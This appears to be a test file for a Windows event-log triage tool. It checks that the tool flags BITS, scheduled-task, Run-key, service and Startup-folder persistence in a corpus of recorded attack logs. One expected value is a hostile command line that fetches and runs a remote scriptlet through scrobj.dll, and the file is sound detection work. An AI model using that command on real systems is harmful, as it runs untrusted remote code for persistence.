/**
 * The corpus expectations of issue 5, on the real attack logs in ../shared/corpus (skipped when absent).
 * Decoding goes through the project's own EVTX reader and Windows-event mapper.
 */
import {existsSync, readdirSync, statSync} from 'node:fs'
import {join, relative} from 'node:path'
import {fileURLToPath} from 'node:url'
import t from 'tap'
import {analyze, loadRules, type AnalyzeResult} from '../../src/analyzers/index.js'
import {readEvtx} from '../../src/parsers/evtx/index.js'
import {mapWinEvent} from '../../src/parsers/windows-event/index.js'
import {parseTaskXml} from '../../src/parsers/task-xml/index.js'
import type {TriageEvent} from '../../src/model/event.js'
import {severityRank} from '../../src/model/finding.js'

const repo = fileURLToPath(new URL('../../', import.meta.url))
const corpus = join(repo, '..', 'shared', 'corpus', 'attack')
const rules = loadRules()

function evtxFiles(dir: string): string[] {
  const out: string[] = []
  for (const name of readdirSync(dir).sort()) {
    const p = join(dir, name)
    if (statSync(p).isDirectory()) out.push(...evtxFiles(p))
    else if (name.endsWith('.evtx')) out.push(p)
  }
  return out
}

async function* events(path: string): AsyncIterable<TriageEvent> {
  const display = relative(corpus, path)
  for await (const r of readEvtx(path, {output: 'win-event', threads: 1, displayPath: display})) {
    if (r.event) yield mapWinEvent(r.event, {parseTaskXml: (xml, p) => parseTaskXml(xml, {path: p}).tasks[0]})
  }
}

function atLeast(r: AnalyzeResult, s: 'medium' | 'high'): AnalyzeResult['findings'] {
  return r.findings.filter(f => severityRank(f.severity) >= severityRank(s))
}

t.test('attack corpus', async t => {
  if (!existsSync(corpus)) {
    t.pass('corpus absent, skipped')
    return
  }
  const results = new Map<string, AnalyzeResult>()
  for (const file of evtxFiles(corpus)) results.set(relative(corpus, file), await analyze(events(file), {rules}))

  t.test('Windows 7 notify launches', async t => {
    const r = results.get('Persistence/sysmon_1_persist_bitsjob_SetNotifyCmdLine.evtx')!
    const serious = atLeast(r, 'medium')
    t.same(serious.map(f => [f.rule, f.severity, f.techniques, f.fields?.['process.commandLine']]).sort((a, b) => String(a[3]).localeCompare(String(b[3]))), [
      ['bits-notify-launch', 'high', ['T1197'], '/c notepad.exe'],
      ['bits-notify-launch', 'high', ['T1197'], '/u /s /i:https://raw.githubusercontent.com/3gstudent/SCTPersistence/master/calc.sct scrobj.dll'],
    ])
    t.notOk(r.findings.some(f => /wmiadap/i.test(f.fields?.['process.image'] ?? '')), 'wmiadap.exe is not reported at all')
    const incident = r.incidents.find(i => i.techniques.includes('T1197') && i.severity === 'high')
    t.ok(incident)
    t.same([...incident!.findings].sort(), serious.map(f => f.id).sort())
  })

  t.test('Bits-Client jobs with a local-path URL', async t => {
    const r = results.get('Persistence/persist_bitsadmin_Microsoft-Windows-Bits-Client-Operational.evtx')!
    t.same(atLeast(r, 'medium').map(f => [f.rule, f.severity, f.techniques, f.fields?.['bits.title'], f.fields?.urls]), [
      ['bits-job', 'high', ['T1197'], 'backdoor', 'C:\\Windows\\system32\\cmd.exe'],
      ['bits-job', 'high', ['T1197'], 'hola', 'C:\\Windows\\system32\\cmd.exe'],
    ])
  })

  t.test('task, Run key and service logs', async t => {
    const tech = (file: string): string[] => [...new Set(atLeast(results.get(file)!, 'medium').flatMap(f => f.techniques))].sort()
    t.same(tech('Execution/temp_scheduled_task_4698_4699.evtx'), ['T1053.005'])
    t.same(tech('Persistence/evasion_persis_hidden_run_keyvalue_sysmon_13.evtx'), ['T1547.001'])
    t.same(tech('Privilege Escalation/System_7045_namedpipe_privesc.evtx'), ['T1543.003'])
  })

  t.test('the other logs yield nothing at medium or above', async t => {
    const notable = new Set([
      'Persistence/sysmon_1_persist_bitsjob_SetNotifyCmdLine.evtx',
      'Persistence/persist_bitsadmin_Microsoft-Windows-Bits-Client-Operational.evtx',
      'Execution/temp_scheduled_task_4698_4699.evtx',
      'Persistence/evasion_persis_hidden_run_keyvalue_sysmon_13.evtx',
      'Privilege Escalation/System_7045_namedpipe_privesc.evtx',
    ])
    // An executable written into a user's Startup folder over SMB (Image "System") is startup-folder
    // persistence (T1547.001) by any reading: it is reported at medium, the one exception to this rule.
    const startup = 'Lateral Movement/lateral_movement_startup_3_11.evtx'
    t.same(atLeast(results.get(startup)!, 'medium').map(f => [f.rule, f.severity]), [['startup-folder-executable', 'medium']])
    for (const [file, r] of results) {
      if (notable.has(file) || file === startup) continue
      t.same(atLeast(r, 'medium').map(f => `${f.rule}: ${f.summary}`), [], file)
      t.same(r.incidents, [], `${file}: no incident`)
    }
  })
})
